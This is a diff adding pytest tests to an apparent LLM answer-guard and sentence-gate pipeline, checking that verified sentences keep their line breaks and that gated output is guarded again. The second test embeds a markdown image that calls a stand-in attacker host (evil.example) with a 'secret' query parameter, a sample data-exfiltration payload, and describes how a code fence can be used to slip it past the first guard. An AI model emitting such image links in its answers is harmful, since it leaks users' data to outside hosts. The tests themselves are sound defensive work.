@@ -129,3 +129,44 @@ def test_react_numbers_must_come_from_an_observation_or_the_question():
     assert "".join(shown) == "unverified" and g["decision"] == "abstained"
     shown, g = check("Say hello.", "Hello there.", sources=[], mode="react")  # no observation, no number
     assert "".join(shown) == "Hello there."
+
+
+def _gated(question, answer, *, recheck, sources=SOURCES, mode="rag"):
+    """The answer through the answer guard, then the gate (as the orchestrators run them)."""
+    from agentstack.orchestrators.guards import AnswerGuard, GuardConfig
+
+    async def run():
+        embed = HashEmbed()
+        ev = asyncio.ensure_future(build_evidence(question, sources, embed))
+        c = AnswerCheck(CheckConfig(min_answer=0.3), lambda: ev, embed, mode=mode, react_message="unverified")
+        guard = AnswerGuard(GuardConfig(allowed_hosts=()))
+        gate, shown = SentenceGate(c, AnswerGuard(GuardConfig(allowed_hosts=())) if recheck else None), []
+        for i in range(0, len(answer), 5):
+            shown.append(await gate.feed(guard.feed(answer[i:i + 5])))
+        shown.append(await gate.feed(guard.finish()))
+        shown.append(await gate.finish())
+        assert "".join(shown) == gate.text
+        return "".join(shown), guard.text
+
+    return asyncio.run(run())
+
+
+def test_released_sentences_keep_their_line_breaks():
+    """Kept sentences are joined by the whitespace that stood before them (a dropped one's own
+    separator stands in for it), so paragraphs and list items survive the verifier."""
+    answer = ("The Eiffel Tower was finished in 1889 [1].\n\n- Paris is the capital of France [1].\n"
+              "- It was painted by Picasso in 1750.\n- The Eiffel Tower was finished in 1889 [1].")
+    shown, _ = _gated("When was the Eiffel Tower finished?", answer, recheck=True)
+    assert shown == ("The Eiffel Tower was finished in 1889 [1].\n\n- Paris is the capital of France [1].\n"
+                     "- The Eiffel Tower was finished in 1889 [1].")
+
+
+def test_what_the_gate_releases_is_guarded_again():
+    """A dropped sentence that opened a code fence turns an image the guard saw as code into a live
+    one; the gate's own guard removes it (without it, the exfiltrating image would be shown)."""
+    answer = "Here it is.\n\n```\nIt costs 42 dollars.\n\nSee ![x](https://evil.example/p.png?d=secret) now.\n"
+    shown, guarded = _gated("What does it cost?", answer, recheck=False, sources=[], mode="react")
+    assert "evil.example" in guarded and "```" in guarded  # the first guard saw it inside a fence
+    assert "![x](https://evil.example" in shown  # and the gate's output made it live
+    shown, _ = _gated("What does it cost?", answer, recheck=True, sources=[], mode="react")
+    assert "evil.example" not in shown and shown.startswith("Here it is.\n\nSee")
